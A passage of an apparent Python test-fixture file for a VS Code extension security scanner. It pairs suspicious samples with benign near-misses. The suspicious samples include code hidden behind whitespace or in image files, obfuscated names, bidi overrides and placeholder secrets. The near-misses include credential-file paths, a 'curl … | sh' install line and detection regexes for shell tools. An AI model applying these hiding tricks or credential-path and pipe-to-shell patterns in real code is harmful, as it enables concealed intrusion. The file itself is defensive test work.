    Shape("a-title-with-a-cyrillic-letter", 12, "medium", manifest(publisher="fubodema", name="gomutave", displayName="Pyth\u043en")),
    Shape("a-publisher-with-a-letter-too-many", 12, "medium", manifest(publisher="ms-pythonn", name="python")),
    Shape("a-name-with-a-letter-changed", 12, "medium", manifest(publisher="esbemp", name="prettier-vscode")),
    Shape("a-theme-with-a-main", 13, "medium", Plant(manifest={"contributes": _THEME, "categories": ["Themes"]}, files=_THEME_FILES)),
    Shape("an-icon-theme-with-a-main", 13, "medium", Plant(manifest={"contributes": _ICONS, "categories": ["Themes"]}, files=_ICON_FILES)),
    Shape("a-grammar-with-a-main", 13, "medium", Plant(manifest={"contributes": _GRAMMAR, "categories": ["Programming Languages"]}, files=_GRAMMAR_FILES)),
    Shape("snippets-with-a-main", 13, "medium", Plant(manifest={"contributes": _SNIPPETS, "categories": ["Snippets"]}, files=_SNIPPET_FILES)),
    Shape("a-language-pack-with-a-main", 13, "medium", Plant(manifest={"contributes": _LOCALE, "categories": ["Language Packs"]}, files=_LOCALE_FILES)),
    Shape("a-theme-with-a-main-and-start-up", 13, "medium", Plant(manifest={"contributes": _THEME, "categories": ["Themes"], "activationEvents": ["onStartupFinished"]}, files=_THEME_FILES)),
    Shape("activation-on-everything", 14, "medium", manifest(activationEvents=["*"])),
    Shape("activation-on-everything-among-others", 14, "medium", manifest(activationEvents=["onLanguage:ruby", "onCommand:x.y", "*"])),
    Shape("a-pack-with-a-missing-member", 15, "medium", manifest(extensionPack=["bodekame.sutaveru"])),
    Shape("a-pack-with-one-missing-member", 15, "medium", manifest(extensionPack=[COMPANION, "bodekame.sutaveru"])),
    Shape("a-missing-dependency", 15, "medium", manifest(extensionDependencies=["bodekame.sutaveru"])),
    Shape("an-uninstall-script", 19, "medium", Plant(manifest={"scripts": {"vscode:uninstall": "node ./out/leave.js"}}, files={"out/leave.js": b'console.log("bye");\n'})),
    Shape("an-uninstall-command", 19, "medium", manifest(scripts={"compile": "tsc -p .", "vscode:uninstall": "echo bye"})),
)  # fmt: skip

_FILES: tuple[Shape, ...] = (
    Shape("a-script-in-a-png", 16, "medium", file("media/logo.png", _SCRIPT)),
    Shape("a-script-in-a-woff2", 16, "medium", file("media/text.woff2", _SCRIPT)),
    Shape("a-script-in-a-ttf", 16, "medium", file("media/text.ttf", b"#!/usr/bin/env node\n" + _SCRIPT)),
    Shape("a-shell-script-in-a-jpg", 16, "medium", file("media/back.jpg", b"#!/bin/sh\necho hello\n")),
    Shape("a-module-in-a-gif", 16, "medium", file("media/wait.gif", b'import{exec}from"child_process";export const go=()=>exec("echo hello");\n')),
    Shape("powershell-in-an-ico", 16, "medium", file("media/app.ico", b"$ErrorActionPreference = 'Stop'\r\nWrite-Host 'hello'\r\nGet-Date\r\n")),
    Shape("a-program-in-a-png", 16, "medium", file("media/hero.png", _ELF)),
    Shape("a-windows-program-in-a-woff", 16, "medium", file("media/text.woff", _PE)),
    Shape("a-program-for-linux", 17, "medium", file("bin/tool", _ELF)),
    Shape("a-program-for-windows", 17, "medium", file("bin/tool.exe", _PE)),
    Shape("a-program-for-macos", 17, "medium", file("bin/tool-darwin", _MACHO)),
    Shape("a-library-for-windows", 17, "medium", file("out/native.dll", _PE)),
    Shape("a-native-module", 17, "medium", file("out/native.node", _ELF)),
    Shape("a-program-named-as-data", 17, "medium", file("out/model.dat", _PE)),
)  # fmt: skip

_JSFUCK = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"
_OBFUSCATIONS: tuple[Shape, ...] = (
    Shape("twenty-obfuscated-names", 18, "medium", code(_obfuscated(20))),
    Shape("sixty-obfuscated-names", 18, "medium", code(_obfuscated(60))),
    Shape("obfuscated-names-in-a-function", 18, "medium", code("(function(_0x3fa1c2,_0x1b77e0){" + _obfuscated(26) + "return _0x3fa1c2-_0x1b77e0})(0x2f1,0x1a);")),
    Shape("obfuscated-names-in-capitals", 18, "medium", code("".join(f"const _0x{n:X}=_0xA1({n});" for n in range(0xA100, 0xA11E)))),
    Shape("obfuscated-names-of-one-letter", 18, "medium", code("".join(f"var a0_0x{n:x}={n};" for n in range(0x4B1A, 0x4B36)))),
    Shape("an-obfuscated-file", 18, "medium", file("dist/extra.js", _obfuscated(40))),
    Shape("code-behind-spaces", 18, "medium", code(" " * 250 + 'require("child_process").exec("echo hello");')),
    Shape("code-behind-many-spaces", 18, "medium", code("var s1=1;" + " " * 2000 + "s1=run(s1);")),
    Shape("code-behind-spaces-in-a-file", 18, "medium", file("dist/extra.js", "exports.a = 1;" + " " * 400 + 'fetch("https://example.com/hello");\n')),
    Shape("code-behind-tabs", 18, "medium", code("var s2=1;" + "\t" * 220 + "s2=run(s2);")),
    Shape("code-of-brackets-alone", 18, "medium", code(f"{'+'.join([_JSFUCK] * 30)};")),
    Shape("code-of-hex-escapes", 18, "medium", code("var s3=[" + ",".join('"' + "".join(f"\\x{b:02x}" for b in word.encode()) + '"' for word in (HELLO, "child_process", "execSync", "toString", "fromCharCode") * 6) + "];")),
)  # fmt: skip

_BIDI: tuple[Shape, ...] = (
    Shape("an-override-in-a-comment", 20, "medium", code("/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */")),
    Shape("an-override-in-a-string", 20, "medium", code('if(r0!="user\u202e \u2066// check if admin\u2069 \u2066")go();')),
    Shape("isolates-in-a-string", 20, "medium", element('"\u2067example\u2069"')),
    Shape("a-left-to-right-isolate-in-code", 20, "medium", code("var v2='\u2066x';")),
    Shape("a-first-strong-isolate-in-code", 20, "medium", code("var v3=`\u2068x\u2069`;")),
    Shape("an-embedding-in-a-comment", 20, "medium", code("/* \u202b note \u202c */")),
    Shape("an-override-in-a-file", 20, "medium", file("dist/extra.mjs", "export const level = 'user'; /*\u202d nothing \u202c*/\n")),
    Shape("an-override-in-a-shell-script", 20, "medium", file("bin/setup.sh", "#!/bin/sh\necho hello # \u202e ereht olleh\n")),
)  # fmt: skip

_SECRETS: tuple[Shape, ...] = (
    Shape("an-aws-key", 21, "medium", element(f'"{_AWS}"')),
    Shape("a-github-token", 21, "medium", element(f"'{_GITHUB}'")),
    Shape("a-github-oauth-token", 21, "medium", code(f"var k0=`{_GITHUB.replace('ghp_', 'gho_')}`;")),
    Shape("a-fine-grained-github-token", 21, "medium", code(f'h0.Authorization="Bearer {_GITHUB_FINE}";')),
    Shape("a-gitlab-token", 21, "medium", code(f'var k1={{headers:{{"PRIVATE-TOKEN":"{_GITLAB}"}}}};')),
    Shape("a-slack-token", 21, "medium", element(f'"{_SLACK}"')),
    Shape("an-npm-token", 21, "medium", element(f'"{_NPM}"')),
    Shape("a-stripe-key", 21, "medium", code(f"var k2=s2('{_STRIPE}');")),
    Shape("a-google-key", 21, "medium", code(f'var k3="https://maps.googleapis.com/maps/api/js?key={_GOOGLE}";')),
    Shape("a-sendgrid-key", 21, "medium", element(f'"{_SENDGRID}"')),
    Shape("an-openai-key", 21, "medium", element(f'"{_OPENAI}"')),
    Shape("a-marketplace-token", 21, "medium", code(f'var k4={{pat:"{_AZURE}"}};')),
    Shape("a-marketplace-token-of-the-old-form", 21, "medium", file(".env", f"VSCE_PAT={_MARKETPLACE}\n")),
    Shape("an-open-vsx-token", 21, "medium", element(f'"{_OPEN_VSX}"')),
    Shape("an-open-vsx-token-in-env", 21, "medium", file(".env", f"OVSX_PAT={_OPEN_VSX}\n")),
    Shape("an-rsa-key-in-code", 21, "medium", code("var k5=`" + _pem("RSA " + "PRIVATE KEY") + "`;")),
    Shape("a-key-with-escaped-lines", 21, "medium", element(json.dumps(_pem("PRIVATE" + " KEY")))),
    Shape("an-openssh-key-file", 21, "medium", file("keys/id_ed25519", _pem("OPENSSH " + "PRIVATE KEY"))),
    Shape("an-elliptic-key-file", 21, "medium", file("keys/server.pem", _pem("EC " + "PRIVATE KEY"))),
    Shape("an-npmrc-with-a-token", 21, "medium", file(".npmrc", f"//registry.npmjs.org/:_authToken={_NPM}\n")),
    Shape("an-npmrc-with-a-token-of-another-registry", 21, "medium", file(".npmrc", f"registry=https://npm.example.com/\n//npm.example.com/:_authToken={_UUID}\n")),
    Shape("an-env-file", 21, "medium", file(".env", f"API_KEY={body(32)}\nDB_PASSWORD={body(12, _LOWER)}\n")),
    Shape("an-env-file-for-production", 21, "medium", file("server/.env.production", f"AWS_ACCESS_KEY_ID={_AWS}\n")),
    Shape("a-github-token-in-settings", 21, "medium", file("config/settings.json", json.dumps({"token": _GITHUB}))),
)  # fmt: skip

SHAPES: tuple[Shape, ...] = (
    *_INVISIBLE,
    *_DECODERS,
    *_DYNAMIC,
    *_FETCHES,
    *_SINKS,
    *_CHAINS,
    *_THEFTS,
    *_SPREADS,
    *_REMOTES,
    *_NAMES,
    *_FILES,
    *_OBFUSCATIONS,
    *_BIDI,
    *_SECRETS,
)

_FLAGS = "".join(f"\U0001f3f4{tags(region)}\U000e007f" for region in ("gbeng", "gbsct", "gbwls"))
_FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
# A table of characters without width, as terminals carry one; the two blocks stand in it.
_WIDTHS = (
    "[65024,65039],[65056,65071],[65279,65279],[65529,65531],[66045,66045],[66272,66272],"
    "[66422,66426],[68097,68099],[68101,68102],[68108,68111],[68152,68154],[68159,68159],"
    "[69633,69633],[69688,69702],[917505,917505],[917536,917631],[917760,917999]"
)

_NO_INVISIBLE: tuple[Near, ...] = (
    Near("three-emoji-selectors", 3, element('"\u2764\ufe0f\ufe0f\ufe0f"')),
    Near("forty-emoji-with-selectors", 3, element('"' + "\u2764\ufe0f\u2600\ufe0f" * 20 + '"')),
    Near("text-style-emoji", 3, element('"\u2714\ufe0e \u2716\ufe0e"')),
    Near("keycaps", 3, element('"' + "".join(f"{n}\ufe0f\u20e3" for n in range(10)) + '"')),
    Near("a-family", 3, element(f'"{_FAMILY}"')),
    Near("many-families", 3, element(f'"{_FAMILY * 12}"')),
    Near("a-rainbow-flag", 3, element('"\U0001f3f3\ufe0f\u200d\U0001f308"')),
    Near("flags-of-regions", 3, element(f'"{_FLAGS}"')),
    Near("a-flag-of-another-region", 3, element(f'"\U0001f3f4{tags("ustx")}\U000e007f"')),
    Near("a-selector-in-japanese", 3, element('"\u845b\U000e0100\u98fe\u533a"')),
    Near("selectors-in-japanese-names", 3, element('"\u8fbb\U000e0101\u3068\u845b\U000e0100\u57ce"')),
    Near("joiners-in-persian", 3, element('"\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0646\u0645\u06cc\u200c\u062f\u0627\u0646\u0645"')),
    Near("joiners-in-hindi", 3, element('"\u0915\u094d\u200d\u0937 \u0930\u094d\u200d\u092f"')),
    Near("zero-width-spaces-in-thai", 3, element('"\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u200b\u0e0a\u0e32\u0e27\u200b\u0e42\u0e25\u0e01"')),
    Near("four-zero-width-spaces", 3, element('"a\u200b\u200b\u200b\u200bb"')),
    Near("a-pattern-of-zero-widths", 3, code(r"var z0=/[\u200B-\u200D\u2060\uFEFF]/g;")),
    Near("a-pattern-with-zero-widths-in-it", 3, code("var z1=/[\u200b\u200c\u200d\ufeff]/g;")),
    Near("a-pattern-of-selectors", 3, code(r"var z2=/[\uFE00-\uFE0F]|\uDB40[\uDD00-\uDDEF]/g;")),
    Near("a-byte-order-mark", 3, file("dist/extra.js", "\ufeffexports.a=1;\n")),
    Near("soft-hyphens", 3, element('"Donau\u00addampf\u00adschiff\u00adfahrt"')),
    Near("emoji-in-the-description", 3, manifest(description="\u2764\ufe0f Tools for \U0001f469\u200d\U0001f4bb")),
    Near("skin-tones", 3, element('"' + "\U0001f44d\U0001f3fd\U0001f469\U0001f3ff\u200d\U0001f680" * 6 + '"')),
    Near("flags-of-countries", 3, element('"' + "\U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7" * 10 + '"')),
    Near("a-plain-black-flag", 3, element('"\U0001f3f4 \U0001f3f4\u200d\u2620\ufe0f"')),
    Near("selectors-of-mongolian", 3, element('"\u1820\u180b\u1822\u180c"')),
    Near("joiners-between-words", 3, element('"a\u2060b\u2060c\u2060d\u2060e\u2060f\u2060g\u2060h\u2060i"')),
    Near("spaces-that-do-not-break", 3, element('"' + "\u00a0" * 24 + '"')),
    Near("spaces-of-east-asia", 3, element('"' + "\u3000" * 24 + '"')),
    Near("a-byte-order-mark-in-a-string", 3, code('var z3="\ufeff"+c0;')),
    Near("characters-for-private-use", 3, element('"' + "".join(chr(0xE000 + n) for n in range(40)) + '"')),
)  # fmt: skip

_NO_DECODER: tuple[Near, ...] = (
    Near("a-table-of-widths", 4, code(f"var w0=[{_WIDTHS}];")),
    Near("the-first-block-alone", 4, code("var w1=e=>e>=0xFE00&&e<=0xFE0F||e===0x200D;")),
    Near("the-second-block-alone", 4, code("var w2=e=>e>=917760&&e<=917999;")),
    Near("the-first-block-in-decimal", 4, code("var w3=e=>65024<=e&&e<=65039||65056<=e&&e<=65071;")),
    Near("the-second-block-in-a-list", 4, element("917760")),
    Near("ambiguous-widths", 4, code("function w4(e){return 65024<=e&&e<=65039||65533===e||127232<=e&&e<=127242||127248<=e&&e<=127277||127280<=e&&e<=127337||127344<=e&&e<=127373||127375===e||127376===e||127387<=e&&e<=127404||917760<=e&&e<=917999}")),
    Near("a-longer-number", 4, code("var w5=[0xFE001,1650241],w6=[0xE01001,9177601];")),
    Near("a-colour", 4, code('var w7={a:"#FE00E0",b:"#E0100F"};')),
    Near("a-range-of-a-style-sheet", 4, element('"unicode-range:U+FE00-FE0F,U+E0100-E01EF"')),
    Near("selectors-that-are-removed", 4, code(r'var w8=s=>s.replace(/[\uFE00-\uFE0F\u{E0100}-\u{E01EF}]/gu,"");')),
    Near("the-emoji-selector-and-the-joiner", 4, code("var w9=e=>e===0xFE0F||e===0x200D||e===0xE007F;")),
    Near("half-forms", 4, code("var wa=e=>e>=0xFE20&&e<=0xFE2F?e-0xFE20:e>=0xFF61?e-0xFF61:0;")),
)  # fmt: skip

_NO_DYNAMIC: tuple[Near, ...] = (
    Near("the-global-object", 5, code('var g0=new Function("return this")();')),
    Near("the-global-object-without-new", 5, code("var g1=Function('return this')();")),
    Near("eval-of-require", 5, code('var g2=eval("require");')),
    Near("eval-of-a-name-in-pieces", 5, code('var g3=eval("quire".replace(/^/,"re"));')),
    Near("a-compiled-template", 5, code('var g4=new Function("obj","escapeFn",s0);')),
    Near("an-image", 5, code('var g5=atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");')),
    Near("settings-in-base64", 5, code('var g6=JSON.parse(atob("eyJhIjoxfQ=="));')),
    Near("a-token-in-parts", 5, code("var g7=JSON.parse(Buffer.from(t0.split('.')[1],'base64').toString());")),
    Near("a-name-that-ends-with-eval", 5, code('var g8=this.medieval(atob("aGVsbG8="));')),
    Near("evaluate-is-no-eval", 5, code("page.evaluate(Buffer.from(x0,'base64').toString());")),
    Near("retrieval-of-a-buffer", 5, code('retrieval(Buffer.from("aGVsbG8=","base64"));')),
    Near("a-function-that-decodes", 5, code("var g9=function(e){return atob(e)};")),
    Near("a-constructor-that-decodes", 5, code("var ga=new DecoderFunction(atob(e0));")),
    Near("a-sandbox", 5, code('require("vm").runInThisContext(n0.wrap(s0),{filename:f0});')),
    Near("a-timer", 5, code("setTimeout(()=>atob(x0),10);")),
    Near("eval-and-atob-apart", 5, code('var gb=eval("1+1");' + "var gc=gb+1;" * 40 + 'var gd=atob("aGVsbG8=");')),
    Near("a-source-map", 5, code("/*# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbXSwibWFwcGluZ3MiOiIifQ== */")),
    Near("a-warning-in-the-documentation", 5, file("README.md", "# Tools\n\nReports `eval(atob(x))` and `eval(Buffer.from(x))`.\n")),
    Near("a-function-of-two-numbers", 5, code('var ge=new Function("a","b","return a+b");')),
    Near("whichever-decodes", 5, code('var gf=typeof atob=="function"?atob(e0):Buffer.from(e0,"base64").toString("binary");')),
    Near("web-assembly-in-base64", 5, code('WebAssembly.instantiate(Buffer.from("AGFzbQEAAAA=","base64"));')),
    Near("a-picked-element", 5, code('page.$eval("#a",e=>atob(e.textContent));')),
    Near("settings-in-brackets", 5, code('var gg=eval("("+s0+")");')),
    Near("a-module-for-development", 5, code('eval("module.exports=1;/*# sourceURL=webpack:///./a.js?*/");')),
    Near("the-text-of-a-function", 5, code("var gh=Function.prototype.toString.call(Buffer.from).length;")),
    Near("a-module-compiled", 5, code("m0._compile(fs.readFileSync(f0,'utf8'),f0);")),
    Near("a-script-of-a-sandbox", 5, code('new(require("vm").Script)("1+1").runInThisContext();')),
    Near("letters-of-a-text", 5, code("var gi=String.fromCharCode(104,101,108,108,111);")),
    Near("words-of-a-language", 5, element('"eval","atob","Function","Buffer"')),
    Near("the-name-of-eval-and-a-buffer", 5, code('var gj={eval:Buffer.from("aGVsbG8=","base64"),Function:atob("aGVsbG8=")};')),
)  # fmt: skip

_NO_FETCH: tuple[Near, ...] = (
    Near("npx-of-a-package", 6, code('t0.sendText("npx create-example-app my-app");')),
    Near("npx-with-an-option", 6, code("t0.sendText('npx --yes eslint . --fix');")),
    Near("npm-exec-of-a-program", 6, code('exec("npm exec -- tsc --noEmit");')),
    Near("a-dependency-on-a-commit", 6, manifest(dependencies={"example": f"github:example-owner/example#{_COMMIT}"})),
    Near("a-link-to-a-line", 6, element('"https://github.com/example-owner/example/blob/main/a.ts#L10"')),
    Near("powershell-of-a-file", 6, code('exec("powershell -NoProfile -File tools.ps1");')),
    Near("powershell-of-a-file-in-a-list", 6, code('spawn("powershell.exe",["-NoProfile","-ExecutionPolicy","Bypass","-File",f0],{windowsHide:!0});')),
    Near("powershell-with-an-encoding", 6, code('exec("powershell -NoProfile -Command Get-Content a.txt -Encoding UTF8");')),
    Near("powershell-of-a-command", 6, code('exec(`powershell -Command "Get-CimInstance Win32_Process | ConvertTo-Json"`);')),
    Near("the-shell-of-elixir", 6, code('t0.sendText("iex -S mix");')),
    Near("iex-in-a-list-of-commands", 6, code('var p0=["elixir","iex","mix"],p1="index";')),
    Near("curl-to-a-file", 6, code('t0.sendText("curl -fsSL -o tool.tgz https://example.com/tool.tgz");')),
    Near("curl-to-jq", 6, code("exec('curl -s https://example.com/a.json | jq .name');")),
    Near("curl-to-shasum", 6, code('exec("curl -sL https://example.com/a.tgz | shasum -a 256");')),
    Near("curl-to-tar", 6, code('exec("curl -sL https://example.com/a.tgz | tar xz");')),
    Near("wget-to-a-file", 6, code('exec("wget -q https://example.com/a.tgz -O a.tgz && sh ./build.sh");')),
    Near("curl-among-commands", 6, code("var p2={curl:'curl|wget|http',sh:'sh|bash|zsh'};")),
    Near("curl-or-sh-in-a-pattern", 6, code(r"var p3=/\b(?:curl|wget|sh|bash|zsh)\b/;")),
    Near("curl-to-a-file-in-a-script", 6, file("bin/setup.sh", "#!/bin/sh\nset -eu\ncurl -fsSL -o /tmp/tool.tgz https://example.com/tool.tgz\ntar xzf /tmp/tool.tgz\n")),
    Near("installation-notes", 6, file("README.md", "# Tools\n\nInstall the server first:\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n")),
    Near("pipes-in-a-table", 6, file("README.md", "| curl | sh |\n|---|---|\n| a | b |\n")),
    Near("npx-of-the-compiler", 6, code('exec("npx tsc --version");')),
    Near("git-clone", 6, code('exec("git clone https://github.com/example-owner/example-repo.git");')),
    Near("powershell-in-a-window", 6, code('exec("powershell -WindowStyle Normal -Command Get-Date");')),
    Near("the-version-of-powershell", 6, code('exec("pwsh -NoLogo -NoProfile -Command $PSVersionTable.PSVersion");')),
    Near("curl-with-a-format", 6, code("exec(\"curl -s -o /dev/null -w '%{http_code}' https://example.com/\");")),
    Near("curl-to-a-checksum", 6, code('exec("curl -sL https://example.com/a.tgz | sha256sum");')),
    Near("curl-that-sends", 6, code('exec("curl -X POST -d @a.json https://example.com/a");')),
    Near("a-window-that-is-hidden", 6, element('"The -w flag is hidden; see powershell"')),
    Near("a-script-by-its-path", 6, code('exec("sh ./scripts/build.sh");')),
    Near("words-about-curl", 6, element('"Copy as cURL (bash)"')),
)  # fmt: skip

_NO_SINK: tuple[Near, ...] = (
    Near("words-about-webhooks", 7, element('"Register a webhook for your Discord or Slack channel"')),
    Near("a-webhook-without-a-token", 7, element('"https://discord.com/api/webhooks/"')),
    Near("a-webhook-to-be-filled-in", 7, code("var h0=`https://discord.com/api/webhooks/${i0}/${t0}`;")),
    Near("a-webhook-of-a-placeholder", 7, element('"https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_WEBHOOK_TOKEN"')),
    Near("an-invitation", 7, element('"https://discord.gg/example"')),
    Near("a-channel", 7, element(f'"https://discord.com/channels/{_DISCORD_ID}/{_DISCORD_ID[::-1]}"')),
    Near("a-bot-to-be-filled-in", 7, code("var h1=`https://api.telegram.org/bot${t0}/sendMessage`;")),
    Near("a-bot-of-a-placeholder", 7, element('"https://api.telegram.org/bot<token>/getMe"')),
    Near("a-slack-placeholder", 7, element('"https://hooks.slack.com/services/T' + "0" * 8 + "/B" + "0" * 8 + "/" + "X" * 24 + '"')),
    Near("slack-to-be-filled-in", 7, code('var h2="https://hooks.slack.com/services/"+c0.token;')),
    Near("this-machine", 7, element('"http://127.0.0.1:3000/"')),
    Near("every-address", 7, element('"http://0.0.0.0:8080/"')),
    Near("a-private-address-of-ten", 7, element('"http://10.0.0.5:9000/api"')),
    Near("a-private-address-of-home", 7, element("'http://192.168.1.1/'")),
    Near("a-private-address-between", 7, code("var h3=`http://172.16.4.20:5000/${p0}`;")),
    Near("the-address-of-containers", 7, element('"tcp://172.17.0.1:2375"')),
    Near("the-address-of-metadata", 7, element('"http://169.254.169.254/latest/meta-data/"')),
    Near("an-address-for-documentation", 7, element('"http://192.0.2.10/hello"')),
    Near("a-version-of-four-parts", 7, code('var h4="https://example.com/download/1.2.3.4/tool.zip",h5="93.184.216.34";')),
    Near("a-host-that-begins-as-a-number", 7, element('"https://93.184.216.34.example.com/hello"')),
    Near("this-machine-in-version-six", 7, element('"http://[::1]:3000/"')),
    Near("an-address-of-a-carrier", 7, element('"http://100.64.0.1/"')),
    Near("an-address-for-documentation-of-three", 7, element('"http://203.0.113.7:8080/hello"')),
    Near("an-address-for-documentation-of-two", 7, element('"http://198.51.100.4/"')),
    Near("an-address-for-everyone", 7, element('"http://255.255.255.255/"')),
    Near("a-link-local-address", 7, element('"http://[fe80::1]:8080/"')),
    Near("a-unique-local-address", 7, element('"http://[fd00::1]/"')),
    Near("another-loopback", 7, element('"http://127.0.53.53:9229/json"')),
    Near("the-manual-of-webhooks", 7, element('"https://discord.com/developers/docs/resources/webhook"')),
    Near("the-manual-of-bots", 7, element('"https://core.telegram.org/bots/api"')),
    Near("an-object-identifier", 7, element('"1.3.6.1.4.1.311.2.1.4"')),
    Near("a-version-in-a-query", 7, element('"https://example.com/a.js?v=10.20.30.40"')),
)  # fmt: skip

_NO_CHAIN: tuple[Near, ...] = (
    Near("a-client-of-solana", 8, file("dist/rpc.js", "exports.list=function(c,a){return c.getSignaturesForAddress(a,{limit:5})};\n")),
    Near("a-client-of-ethereum", 8, file("dist/rpc.js", 'exports.call=function(t){return fetch("https://cloudflare-eth.com",{method:"POST",body:JSON.stringify({jsonrpc:"2.0",method:"eth_call",params:[t]})})};\n')),
    Near("the-memo-program", 8, file("dist/ids.js", 'exports.MEMO="MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr";\n')),
    Near("words-about-chains", 8, element('"Solana, Ethereum and Bitcoin addresses are highlighted"')),
    Near("snippets-for-a-chain", 8, file("snippets/solana.json", '{"signatures":{"prefix":"sigs","body":["connection.getSignaturesForAddress(${1:key});"]}}\n')),
    Near("words-of-a-chain-for-colours", 8, file("dist/words.js", 'exports.words=["eth_call","eth_sendTransaction","getSignaturesForAddress"];\n')),
    Near("an-address-on-a-chain", 8, file("dist/ids.js", 'exports.zero="0x0000000000000000000000000000000000000000";\n')),
)  # fmt: skip

_NO_THEFT: tuple[Near, ...] = (
    Near("one-key", 9, code('var o0=path.join(os.homedir(),".ssh","id_rsa");')),
    Near("the-keys-of-one-kind", 9, code("var o1=['.ssh/id_rsa','.ssh/id_ed25519','.ssh/id_ecdsa','.ssh/id_dsa'].map(f=>p0(h0,f));")),
    Near("the-credentials-of-aws", 9, code('var o2=process.env.AWS_SHARED_CREDENTIALS_FILE||h0+"/.aws/credentials";')),
    Near("two-targets", 9, code('var o3=[".aws/credentials",".git-credentials"];')),
    Near("the-files-of-ssh", 9, code("var o4=['.ssh/config','.ssh/known_hosts','/etc/ssh/ssh_config'];")),
    Near("words-about-logins", 9, element('"Enter your Login Data to continue"')),
    Near("the-profiles-of-a-browser", 9, code('var o5=["Google/Chrome/User Data","Chromium/User Data","Microsoft/Edge/User Data"];')),
    Near("names-of-files-for-icons", 9, file("icons/names.json", '{"fileNames":{"id_rsa":"key","credentials":"key",".git-credentials":"git"}}\n')),
    Near("one-wallet", 9, element('"nkbihfbeogaeaoehlefnkodbefgpgknn"')),
    Near("the-settings-of-clouds", 9, code('var o6=[".aws/config",".azure/config",".kube/config"];')),
    Near("words-about-credentials", 9, element('"credentials","cookies","id_token","wallet"')),
)  # fmt: skip

_NO_SPREAD: tuple[Near, ...] = (
    Near("install-extension-in-a-help-text", 10, file("dist/help.js", 'exports.help="code --install-extension <id>  installs an extension";\n')),
    Near("install-extension-in-the-documentation", 10, file("README.md", "# Tools\n\n    code --install-extension example.tools\n")),
    Near("a-script-that-publishes-itself", 10, manifest(scripts={"package": "vsce package", "deploy": "vsce publish --yarn && ovsx publish"})),
    Near("notes-on-publishing", 10, file("CONTRIBUTING.md", "Run `npm publish` and `vsce publish` when done.\n")),
    Near("vsce-package", 10, code('exec("vsce package --no-dependencies");')),
    Near("npm-commands-to-complete", 10, code('var n0=["install","publish","run","test"],n1="npm";')),
    Near("words-about-publishing", 10, element('"Publish the npm package and the site"')),
    Near("what-is-installed", 10, code('cp.execFile("code",["--list-extensions","--show-versions"]);')),
    Near("a-branch-that-is-published", 10, element('"git.publish","Publish Branch"')),
    Near("an-installation-by-npm", 10, code('cp.execSync("npm install --no-save");')),
    Near("a-release-of-dotnet", 10, code('exec("dotnet publish -c Release");')),
)  # fmt: skip

_NO_REMOTE: tuple[Near, ...] = (
    Near("a-screen-that-connected", 11, code("this.onScreenConnected=function(){this.screenConnection=1};")),
    Near("a-list-of-programs-that-share", 11, code("var r0=['zoom.exe','teams.exe','anydesk.exe','teamviewer.exe'];")),
    Near("words-about-anydesk", 11, element('"Screen sharing with AnyDesk may be slow"')),
    Near("a-silent-command", 11, code('exec("npm install --silent");')),
    Near("the-site-of-anydesk", 11, element('"https://anydesk.com/"')),
    Near("a-silent-setup-of-something-else", 11, code('exec("setup.exe /S --silent");')),
    Near("a-remote-desktop", 11, element('"Microsoft Remote Desktop"')),
)  # fmt: skip

_NO_NAME: tuple[Near, ...] = (
    Near("a-version-that-is-not-listed", 1, manifest(publisher="nrwl", name="angular-console", version="18.100.0")),
    Near("a-publisher-of-a-listed-one", 1, manifest(publisher="ahban", name="gomutave")),
    Near("the-name-of-a-listed-one", 1, manifest(name="susvsex-viewer")),
    Near("event-stream-before", 2, installed("event-stream", "3.3.4")),
    Near("event-stream-after", 2, installed("event-stream", "4.0.1")),
    Near("ua-parser-after", 2, installed("ua-parser-js", "0.7.40")),
    Near("a-name-that-was-listed-in-other-versions", 2, installed("debug", "4.4.3")),
    Near("a-wish-for-a-listed-version", 2, manifest(devDependencies={"event-stream": "^3.3.4"})),
    Near("prettier-itself", 12, manifest(publisher="esbenp", name="prettier-vscode", displayName="Prettier - Code formatter")),
    Near("python-itself", 12, manifest(publisher="ms-python", name="python", displayName="Python")),
    Near("rust-analyzer-itself", 12, manifest(publisher="rust-lang", name="rust-analyzer", displayName="rust-analyzer")),
    Near("an-eslint-of-its-own", 12, manifest(displayName="Rules for ESLint in Ruby templates")),
    Near("tools-for-python", 12, manifest(name="python-bodekume", displayName="Python Paths for Bodekume")),
    Near("a-title-in-cyrillic", 12, manifest(displayName="\u0420\u0443\u0441\u0441\u043a\u0438\u0439 \u044f\u0437\u044b\u043a")),
    Near("a-theme-without-a-main", 13, Plant(manifest={"main": None, "browser": None, "activationEvents": None, "contributes": _THEME, "categories": ["Themes"]}, files=_THEME_FILES)),
    Near("a-theme-with-a-command", 13, Plant(manifest={"contributes": _THEME | {"commands": [{"command": "dusk.pick", "title": "Pick"}]}, "categories": ["Themes", "Other"]}, files=_THEME_FILES)),
    Near("a-grammar-without-a-main", 13, Plant(manifest={"main": None, "browser": None, "activationEvents": None, "contributes": _GRAMMAR}, files=_GRAMMAR_FILES)),
    Near("a-language-with-settings", 13, Plant(manifest={"contributes": _GRAMMAR | {"configuration": {"title": "Zot", "properties": {"zot.path": {"type": "string"}}}}, "activationEvents": ["onLanguage:zot"]}, files=_GRAMMAR_FILES)),
    Near("snippets-without-a-main", 13, Plant(manifest={"main": None, "browser": None, "activationEvents": None, "contributes": _SNIPPETS}, files=_SNIPPET_FILES)),
    Near("activation-when-started", 14, manifest(activationEvents=["onStartupFinished"])),
    Near("activation-for-any-file", 14, manifest(activationEvents=["workspaceContains:*", "workspaceContains:**/*.zot"])),
    Near("activation-for-a-language", 14, manifest(activationEvents=["onLanguage", "onCommand:*"])),
    Near("a-pack-that-is-complete", 15, manifest(extensionPack=[COMPANION])),
    Near("a-pack-in-other-case", 15, manifest(extensionPack=[COMPANION.title()])),
    Near("a-dependency-that-is-installed", 15, manifest(extensionDependencies=[COMPANION])),
